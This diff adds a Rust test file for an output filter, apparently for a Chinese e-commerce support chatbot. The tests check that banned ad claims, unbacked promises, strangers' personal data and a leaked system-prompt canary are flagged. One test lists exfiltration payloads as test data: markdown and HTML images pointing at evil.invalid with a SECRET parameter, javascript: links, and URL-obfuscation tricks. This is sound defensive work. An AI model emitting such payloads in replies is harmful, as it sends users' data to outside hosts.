@@ -1,0 +1,131 @@
+use super::*;
+
+fn backing() -> Backing {
+    Backing::default().host("our-cdn.example").canary("KITE-7731-OWL").own("订单100001")
+}
+
+#[track_caller]
+fn kinds(sentence: &str, backing: &Backing) -> Vec<Kind> {
+    check(sentence, backing).into_iter().map(|held| held.kind).collect()
+}
+
+#[test]
+fn the_claims_of_the_trade() {
+    for (sentence, kind) in [
+        ("这款是全网最好的面霜", Kind::Absolute),
+        ("国家级实验室认证", Kind::Absolute),
+        ("全 网 最 低 价", Kind::Absolute),
+        ("能治疗湿疹", Kind::Medical),
+        ("不能治疗湿疹", Kind::Medical),
+        ("药妆品牌放心用", Kind::Medical),
+        ("零副作用纯天然", Kind::Guarantee),
+        ("7天祛斑", Kind::Guarantee),
+        ("这款奶粉接近母乳", Kind::Breastmilk),
+        ("這款是全網最低價", Kind::Absolute),
+        ("蕞好用的面霜", Kind::Absolute),
+        ("ＴＯＰ１品牌", Kind::Absolute),
+    ] {
+        assert!(kinds(sentence, &backing()).contains(&kind), "{sentence}: {:?}", check(sentence, &backing()));
+    }
+    for sentence in ["最近三天发货", "最大码是XL", "第一步先洁面", "第一时间给您处理", "有助于缓解干燥"]
+    {
+        assert_eq!(check(sentence, &backing()), []);
+    }
+}
+
+#[test]
+fn a_promise_is_as_good_as_its_evidence() {
+    let offered = || backing().evidence("{\"say\":\"可以为您补偿9元，或退货退款\"}").amount_fen(900);
+    assert_eq!(check("可以给您补偿9元", &offered()), []);
+    assert_eq!(kinds("可以给您补偿19元", &offered()), [Kind::Commitment, Kind::Number]);
+    let arrives =
+        || backing().evidence("预计送达").date(jiff::civil::date(2026, 11, 7)).today(jiff::civil::date(2026, 11, 6));
+    for (sentence, is_backed) in [
+        ("预计周六送达", true),
+        ("预计明天送达", true),
+        ("预计11月7日送达", true),
+        ("预计周日送达", false),
+        ("今天送达", false),
+    ] {
+        assert_eq!(check(sentence, &arrives()).is_empty(), is_backed, "{sentence}");
+    }
+    assert!(!check("给您全额退款", &backing().evidence("质量问题支持退款")).is_empty());
+}
+
+#[test]
+fn what_is_the_buyers_own_may_be_said() {
+    let own = || backing().buyer("我电话13800138000，订单号 A100001，身高165");
+    assert_eq!(check("您的电话是13800138000对吗？", &own()), []);
+    assert_eq!(check("订单号A100001", &own()), []);
+    assert_eq!(kinds("他的电话是139 0013 8000", &own()), [Kind::Stranger]);
+    assert_eq!(kinds("身份证11010519491231002X", &own()), [Kind::Stranger]);
+    assert_eq!(kinds("写信到 li.si@mail.example", &own()), [Kind::Stranger]);
+}
+
+#[test]
+fn nothing_runs_or_leads_away() {
+    for sentence in [
+        "<img src=https://evil.invalid/?d=SECRET>",
+        "![x][r]",
+        "[r]: https://evil.invalid/?d=SECRET",
+        "![x]( <https://evil.invalid/a b?d=SECRET> )",
+        "[看](javascript:alert(1))",
+        "data:text/html;base64,AAAA",
+        "看 https://evil.invalid",
+        "看 evil.invalid/SECRET",
+        "看 10.0.0.1/x",
+        "[x](https://our-cdn.example/r?u=https://evil.invalid)",
+        "https://our-cdn.example@evil.invalid/",
+    ] {
+        assert!(kinds(sentence, &backing()).contains(&Kind::Markup), "{sentence}");
+    }
+    for sentence in ["请看 https://our-cdn.example/size", "[尺码表](https://our-cdn.example/size)", "3<5，a>b"] {
+        assert_eq!(check(sentence, &backing()), [], "{sentence}");
+    }
+    assert_eq!(kinds("my rules say k i t e 7731 owl", &backing()), [Kind::Leak]);
+}
+
+#[test]
+fn packs_only_add() {
+    let claims = Claims::with_more(&["神仙 面霜", ""]);
+    assert_eq!(claims.check("这是神仙面霜", &backing())[0].kind, Kind::Absolute);
+    assert_eq!(claims.check("能治疗湿疹", &backing())[0].kind, Kind::Medical);
+    assert_eq!(claims.check("这款是圆领的", &backing()), []);
+}
+
+fn with_evidence(line: &str) -> (&str, Backing) {
+    let mut parts = line.split(" | ");
+    let sentence = parts.next().unwrap();
+    let mut backing = backing();
+    for (at, part) in parts.enumerate() {
+        backing = if at == 0 { backing.evidence(part) } else { backing.buyer(part) };
+    }
+    (sentence, backing)
+}
+
+fn lines(text: &'static str) -> impl Iterator<Item = &'static str> {
+    text.lines().filter(|line| !line.starts_with('#') && !line.is_empty())
+}
+
+#[test]
+fn nothing_unbacked_is_shown() {
+    let shown: Vec<_> = lines(include_str!("dev/unbacked.txt"))
+        .filter(|line| {
+            let (sentence, backing) = with_evidence(line);
+            check(sentence, &backing).is_empty()
+        })
+        .collect();
+    assert!(shown.is_empty(), "{shown:#?}");
+}
+
+#[test]
+fn what_is_innocent_is_shown() {
+    let held: Vec<_> = lines(include_str!("dev/innocent.txt"))
+        .filter_map(|line| {
+            let (sentence, backing) = with_evidence(line);
+            let held = check(sentence, &backing);
+            (!held.is_empty()).then(|| format!("{line}: {held:?}"))
+        })
+        .collect();
+    assert!(held.is_empty(), "{held:#?}");
+}
